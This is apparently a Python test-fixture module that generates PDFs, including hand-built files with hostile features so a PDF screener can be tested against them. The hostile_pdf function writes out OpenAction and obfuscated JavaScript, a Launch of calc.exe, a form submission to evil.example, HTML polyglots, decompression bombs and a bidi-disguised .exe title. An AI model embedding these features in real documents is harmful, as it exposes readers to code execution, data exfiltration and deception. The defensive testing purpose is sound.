"""Small real PDFs made by the tests (never downloaded): one line of text per page."""
from __future__ import annotations

import io

from pypdf import PdfWriter
from pypdf.generic import (ArrayObject, BooleanObject, DecodedStreamObject, DictionaryObject,
                           NameObject, NumberObject, TextStringObject)


def _escape_pdf_text(text: str) -> bytes:
    raw = text.encode("cp1252")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def pdf_bytes(pages_text=("Page une",), *, title=None, lang=None, tagged=False,
              user_password=None, owner_password=None) -> bytes:
    """An A4 PDF (Helvetica, WinAnsi); an empty page text gives a page without text."""
    writer = PdfWriter()
    font = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
        NameObject("/Encoding"): NameObject("/WinAnsiEncoding")}))
    for text in pages_text:
        page = writer.add_blank_page(595.28, 841.89)
        page[NameObject("/Resources")] = DictionaryObject({
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
        stream = DecodedStreamObject()
        if text:
            stream.set_data(b"BT /F1 14 Tf 72 760 Td (" + _escape_pdf_text(text) + b") Tj ET")
        page[NameObject("/Contents")] = writer._add_object(stream)
    if title:
        writer.add_metadata({"/Title": title})
    if lang:
        writer._root_object[NameObject("/Lang")] = TextStringObject(lang)
    if tagged:
        writer._root_object[NameObject("/MarkInfo")] = DictionaryObject(
            {NameObject("/Marked"): BooleanObject(True)})
        writer._root_object[NameObject("/StructTreeRoot")] = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/StructTreeRoot"), NameObject("/K"): ArrayObject()}))
    if user_password is not None or owner_password is not None:
        writer.encrypt(user_password or "", owner_password or "proprietaire", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def odd_pdf_bytes(width=595, height=842, *, image=None) -> bytes:
    """One blank page of `width` × `height` points; `image=(w, h)` adds an image XObject that
    declares that size (its data is 16 bytes: nothing to decode, only the declared size counts)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width, height)
    if image:
        stream = DecodedStreamObject()
        stream.set_data(b"\0" * 16)
        stream.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
                       NameObject("/Width"): NumberObject(image[0]), NameObject("/Height"): NumberObject(image[1]),
                       NameObject("/ColorSpace"): NameObject("/DeviceGray"),
                       NameObject("/BitsPerComponent"): NumberObject(8)})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): DictionaryObject(
            {NameObject("/Im1"): writer._add_object(stream)})})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# Hand-written PDFs (issue 23): what a hostile pull request could hold, byte for byte.

def raw_pdf(objects: dict[int, bytes], *, root: int = 1, info: int | None = None,
            in_stream: dict[int, bytes] | None = None, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (`b"<< /Type /Catalog ... >>"`). Objects of `in_stream` are
    written inside an object stream (PDF 1.5) and the file gets a cross-reference stream."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + prefix)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    trailer = b"/Root %d 0 R" % root + (b" /Info %d 0 R" % info if info else b"")
    if not in_stream:
        size = max(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += (b"%010d 00000 n \n" % offsets[number]) if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d " % size + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
        return bytes(out) + suffix
    stm_number = max([*objects, *in_stream]) + 1
    header, body = [], b""
    for number in sorted(in_stream):
        header.append(b"%d %d" % (number, len(body)))
        body += in_stream[number] + b"\n"
    first = b" ".join(header) + b"\n"
    data = first + body
    offsets[stm_number] = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n" %
            (stm_number, len(in_stream), len(first), len(data)) + data + b"\nendstream\nendobj\n")
    xref_number = stm_number + 1
    offsets[xref_number] = len(out)
    size = xref_number + 1
    rows = b""
    for number in range(size):
        if number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number in in_stream:
            rows += bytes([2]) + stm_number.to_bytes(4, "big") + sorted(in_stream).index(number).to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    xref = offsets[xref_number]
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] " % (xref_number, size) + trailer +
            b" /Length %d >>\nstream\n" % len(rows) + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out) + suffix


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + extra + b" >>\nstream\n" + data + b"\nendstream"


def _flate(data: bytes) -> bytes:
    import zlib
    compressed = zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(compressed) + compressed + b"\nendstream"


_PAGE_TEXT = b"BT /F1 14 Tf 72 760 Td (Page une) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def hostile_pdf(kind: str) -> bytes:
    """One page A4 PDF with one hostile feature `kind` (see HOSTILE_PDF_KINDS), or "clean"."""
    catalog_extra, page_extra, content, objects, in_stream = b"", b"", _stream(_PAGE_TEXT), {}, None
    info, prefix, suffix = None, b"", b""
    if kind == "openaction-js":
        catalog_extra = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    elif kind == "objstm-escaped-js":  # catalog and action inside an object stream, names #-escaped
        in_stream = {1: b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 6 0 R >>",
                     6: b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"}
    elif kind == "names-js":
        catalog_extra = b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
    elif kind == "launch":
        page_extra = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>]"
    elif kind == "aa-submit":
        page_extra = (b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>")
    elif kind == "gotor":
        page_extra = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (autre.pdf) /D [0 /Fit] >> >>]"
    elif kind == "importdata":
        catalog_extra = b"/OpenAction << /S /ImportData /F (donnees.fdf) >>"
    elif kind == "xfa":
        catalog_extra = b"/AcroForm << /Fields [] /XFA 7 0 R >>"
        objects[7] = _stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    elif kind == "embedded-html":
        catalog_extra = (b"/Names << /EmbeddedFiles << /Names [(page.html) << /Type /Filespec /F (page.html) "
                         b"/EF << /F 7 0 R >> >>] >> >>")
        objects[7] = _flate(b"<script>alert(1)</script>").replace(b"<<", b"<< /Type /EmbeddedFile", 1)
    elif kind == "uri-javascript":
        page_extra = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"
    elif kind == "uri-http":
        page_extra = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://exemple.fr/) >> >>]"
    elif kind == "uri-https":
        page_extra = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.miviludes.gouv.fr/) >> >>]"
    elif kind == "open-at-page":  # a destination, not an action: inert
        catalog_extra = b"/OpenAction [3 0 R /Fit]"
    elif kind == "polyglot-html":
        prefix = b"%<html><body><script>alert(1)</script></body></html>\n"
    elif kind == "trailing-payload":
        suffix = b"\n" + b"PK\x03\x04" + b"payload " * 500
    elif kind == "inline-image-bomb":
        content = _flate(b"q 100 0 0 100 0 0 cm BI /W 40000 /H 40000 /CS /G /BPC 8 /F /Fl ID \x78\x9c\x03\x00\x00\x00\x00\x01 EI Q")
    elif kind == "text-operators":
        content = _flate(b"BT /F1 1 Tf " + b"(a) Tj " * 200_000 + b"ET")
    elif kind == "bidi-title":
        objects[8] = b"<< /Title <" + (b"\xfe\xff" + "Guide \u202efdp.exe".encode("utf-16-be")).hex().encode() + b"> >>"
        info = 8
    elif kind != "clean":
        raise ValueError(kind)
    base = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
            4: content, 5: _FONT}
    base.update(objects)
    if in_stream:
        for number in in_stream:
            base.pop(number, None)
    return raw_pdf(base, info=info, in_stream=in_stream, prefix=prefix, suffix=suffix)


HOSTILE_PDF_KINDS = ("openaction-js", "objstm-escaped-js", "names-js", "launch", "aa-submit", "gotor",
                     "importdata", "xfa", "embedded-html", "uri-javascript", "uri-http", "polyglot-html",
                     "trailing-payload", "inline-image-bomb", "text-operators", "bidi-title")
